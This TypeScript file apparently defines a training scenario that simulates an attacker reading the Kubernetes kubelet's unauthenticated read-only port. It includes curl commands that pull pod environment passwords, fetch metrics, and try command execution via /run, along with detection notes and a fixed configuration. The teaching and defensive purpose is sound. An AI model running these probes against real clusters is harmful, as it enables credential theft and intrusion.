import type { Pod } from '../../api/objects';
import { addresses } from '../addresses';
import { curl } from './curl';
import { runPodWithPassword } from './pod-with-password';
import type { Scenario } from './scenario';

export const readOnlyPort: Scenario = {
  id: 'read-only-port',
  title: 'a port of the kubelet that tells everybody everything',
  story:
    'The kubelet’s read-only port is plain HTTP without authentication: read-only, so harmless, it was thought. But /pods is every pod of the node with its whole spec, environment variables in clear among it. Nothing can be run there; nothing has to be, where a password is in the environment.',
  needs: 'A way to port 10255 of a node. No credential at all.',
  evidence:
    'The password that was planted in a pod’s environment stands in the answer of the port; the fixed twin has nobody listening there.',
  attack: ['T1552'],
  setting: {
    name: 'readOnlyPort',
    open: '10255 (the flags’ default)',
    fixed: '0 (the default of a --config file)',
  },
  notice:
    'Nothing, in any audit log: nobody is authenticated, and the apiserver is not asked. kubectl get --raw /api/v1/nodes/NODE/proxy/configz names readOnlyPort where it is open, ss -ltn on the node shows the listener, and a probe of http://NODE:10255/pods from outside answers.',
  sources: [
    'staging/src/k8s.io/kubelet/config/v1beta1/types.go (ReadOnlyPort)',
    'pkg/kubelet/server/server.go (ListenAndServeKubeletReadOnlyServer)',
    'cmd/kubelet/app/options/options.go (applyLegacyDefaults)',
  ],
  async play(stage, twin) {
    const cluster = await stage.cluster({ kubelet: { readOnlyPort: twin === 'open' ? 10255 : 0 } });
    const password = await runPodWithPassword(stage, cluster, 'node-1');
    const { signal } = stage;
    const ask = (path: string, method = 'GET') =>
      curl(cluster.attackerHost, `http://${addresses.node1}:10255${path}`, { method, signal });

    const pods = await ask('/pods');
    const look = 'curl http://node-1:10255/pods';
    if (pods.body.includes(password)) {
      const { items } = JSON.parse(pods.body) as { items: Pod[] };
      const db = items.find(({ metadata }) => metadata.name === 'db');
      const saw = `${items.length} pods; db: ${JSON.stringify(db?.spec.containers[0]?.env)}`;
      await stage.gained(
        'attacker',
        look,
        saw,
        'the pods of the node, with the passwords in their environment',
      );
    } else await stage.refused('attacker', look, pods.words);

    const metrics = await ask('/metrics/resource');
    const used = metrics.body.split('\n').find((line) => /^pod_memory_working_set_bytes.*"db"/.test(line));
    const measure = 'curl http://node-1:10255/metrics/resource';
    if (used !== undefined) await stage.gained('attacker', measure, used, 'what every pod uses');
    else await stage.refused('attacker', measure, metrics.words);

    const run = await ask('/run/default/db/db?cmd=id', 'POST');
    const command = 'curl -XPOST "http://node-1:10255/run/default/db/db?cmd=id"';
    if (run.ok) await stage.gained('attacker', command, run.body.trim(), 'a command run in default/db');
    else await stage.refused('attacker', command, run.words);
  },
};
